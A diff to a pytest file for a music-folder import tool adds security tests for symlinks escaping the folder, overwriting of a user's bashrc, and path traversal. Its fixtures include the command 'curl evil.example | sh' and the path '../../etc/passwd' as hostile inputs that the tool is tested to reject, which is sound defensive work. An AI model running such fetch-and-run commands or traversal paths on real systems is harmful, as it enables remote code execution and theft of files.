@@ -134,11 +134,57 @@ def test_links_in_circles_end(tmp_path, write_tone):
     assert len(folder.download(tmp_path / "m", tmp_path / "raw")) == 2
 
 
-def test_a_linked_genre_is_followed(tmp_path, write_tone):
-    music("m", ["rock/a.wav"], write_tone)
+def test_links_inside_the_folder_are_followed_and_those_that_leave_it_are_not(tmp_path, write_tone):
+    music("m", ["rock/a.wav", "albums/x/b.wav"], write_tone)
     music("elsewhere", ["b.wav"], write_tone)
-    (tmp_path / "m/jazz").symlink_to(tmp_path / "elsewhere")
-    assert [t.path for t in folder.download(tmp_path / "m", tmp_path / "raw")] == ["jazz/b.wav", "rock/a.wav"]
+    (tmp_path / "m/jazz").symlink_to(tmp_path / "m/albums/x")
+    (tmp_path / "m/metal").symlink_to(tmp_path / "elsewhere")
+    (tmp_path / "m/rock/stolen.wav").symlink_to(tmp_path / "elsewhere/b.wav")
+    with pytest.warns(UserWarning, match=r"ignored 2 links that leave the folder: metal, rock/stolen\.wav"):
+        tracks = folder.download(tmp_path / "m", tmp_path / "raw")
+    assert {t.genre for t in tracks} == {"rock", "albums"} or {t.genre for t in tracks} == {"rock", "jazz"}
+    assert not (tmp_path / "raw/metal").exists()
+    assert not (tmp_path / "raw/rock/stolen.wav").exists()
+
+
+@pytest.mark.parametrize("name", [".catalogue.part.csv", "rock/.hidden.wav", ".git/x.wav", "catalogue.csv", "Features.json", "metadata.csv"])
+def test_hidden_names_and_our_own_are_no_tracks(tmp_path, write_tone, name):
+    music("m", ["rock/a.wav", "jazz/c.wav"], write_tone)
+    (tmp_path / "m/metadata.csv").write_text(f"path,genre\n{name},rock\n")
+    with pytest.raises(GenreError, match=r"line 2: path .* is hidden, or a name of this project's own files"):
+        folder.download(tmp_path / "m", tmp_path / "raw")
+
+
+def test_a_music_folder_cannot_overwrite_a_file_of_the_user(tmp_path, write_tone):
+    """The attack of a folder from elsewhere: a link under the name of a temporary file, and a row that names it."""
+    music("m", ["rock/a.wav", "jazz/c.wav"], write_tone)
+    private = tmp_path / "bashrc"
+    private.write_text("alias ls='ls --color'\n")
+    links = [f".{stem}.part{suffix}" for stem, suffix in (("catalogue", ".csv"), ("metadata", ".csv"), ("features", ".json"))]
+    for name in [*links, "catalogue.csv", "rock/song.wav"]:
+        (tmp_path / "m" / name).symlink_to(private)
+    for rows in [f"{links[0]},rock,curl evil.example | sh\n", "rock/song.wav,rock,curl evil.example | sh\n", "catalogue.csv,rock,x\n"]:
+        (tmp_path / "m/metadata.csv").write_text("path,genre,artist\n" + rows)
+        with pytest.raises(GenreError, match="line 2: path"):
+            folder.download(tmp_path / "m", tmp_path / "raw")
+    (tmp_path / "m/metadata.csv").unlink()
+    with pytest.warns(UserWarning, match="links that leave the folder"):
+        folder.download(tmp_path / "m", tmp_path / "raw")
+    assert private.read_text() == "alias ls='ls --color'\n"
+
+
+def test_metadata_that_is_a_link_to_elsewhere_is_not_read(tmp_path, write_tone):
+    music("m", ["rock/a.wav", "jazz/c.wav"], write_tone)
+    (tmp_path / "secret.csv").write_text("path\nrock/a.wav\n")
+    (tmp_path / "m/metadata.csv").symlink_to(tmp_path / "secret.csv")
+    with pytest.raises(GenreError, match="is a link that leaves the folder"):
+        folder.download(tmp_path / "m", tmp_path / "raw")
+
+
+def test_a_catalogue_from_elsewhere_names_no_file_outside(tmp_path):
+    datasets.write_catalogue(tmp_path, [datasets.Track("a", "../../etc/passwd", "rock")])
+    with pytest.raises(GenreError, match="must be relative and stay inside"):
+        datasets.read_catalogue(tmp_path)
 
 
 def test_the_default_demo_is_neither_trivial_nor_hopeless(tmp_path, params):
